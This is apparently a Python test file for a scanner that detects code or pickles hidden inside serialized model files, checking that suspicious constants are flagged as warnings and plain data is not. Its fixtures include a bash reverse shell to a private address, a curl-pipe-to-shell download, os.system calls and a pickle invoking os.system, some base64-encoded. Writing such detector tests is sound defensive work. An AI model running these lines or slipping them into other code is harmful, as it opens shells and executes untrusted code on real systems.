"""Constants that hide code or pickles."""

from __future__ import annotations

import base64
import pickle

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hallmarked.checks.serialization.contract import FileVerdict
from hallmarked.checks.serialization.pickle_content import describe
from hallmarked.core.evidence import Level
from tests.checks.serialization.test_pickle import judge, rules_of, worst

INNER = pickle.dumps({"a": ["some", "thing", 1, 2, 3]}, 4)
CODE = b"import os; os.system('id > /tmp/x')"

ODD = {
    "pickle": INNER,
    "text pickle": pickle.dumps({"a": ["some", "thing", 1, 2, 3]}, 0),
    "broken pickle with a call": b"\x80\x04cos\nsystem\nVls\n\x85R" + b"\xff" * 20,
    "code": CODE,
    "dynamic import": b"x = __import__('socket').socket()",
    "shell": b"exec /bin/bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
    "download": b"curl -s https://example.org/x | sh  # fetch",
    "base64 pickle": base64.b64encode(INNER),
    "base64 without padding": base64.urlsafe_b64encode(INNER).rstrip(b"="),
    "base64 code": base64.b64encode(CODE),
    "hexadecimal pickle": INNER.hex().encode(),
}
PLAIN = {
    "prose": b"The system was evaluated on imports of executive summaries.",
    "sha256": b"deadbeef" * 8,
    "base64 JSON": base64.b64encode(b'{"hidden_size": 768, "layers": 12, "a": 1}'),
    "address": b"https://example.org/models/bert-base-uncased",
    "python name": b"transformers.models.bert.modeling_bert.BertModel",
    "numbers": bytes(range(256)),
    "zeros": bytes(64),
    "alphabet": b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/==",
}


@pytest.mark.parametrize("name", ODD)
def test_odd_content_is_a_warning(name: str) -> None:
    """It is reported, at most as a warning, and does not make the file unproven: nothing runs it."""
    assert describe(ODD[name])
    found, seen = judge(pickle.dumps({"key": ODD[name]}, 4))
    assert rules_of(seen) == {"PKL010"}
    assert (found, worst(seen)) == (FileVerdict.PROVEN, Level.WARNING)


@pytest.mark.parametrize("name", PLAIN)
def test_plain_content_is_silent(name: str) -> None:
    """Ordinary text and data are not reported."""
    assert describe(PLAIN[name]) is None


@given(st.binary(max_size=200))
@settings(max_examples=100)
def test_any_content_is_described_or_not(content: bytes) -> None:
    """No content escapes as an exception."""
    describe(content)
    describe(b"\x80\x04" + content)
    describe(base64.b64encode(content))
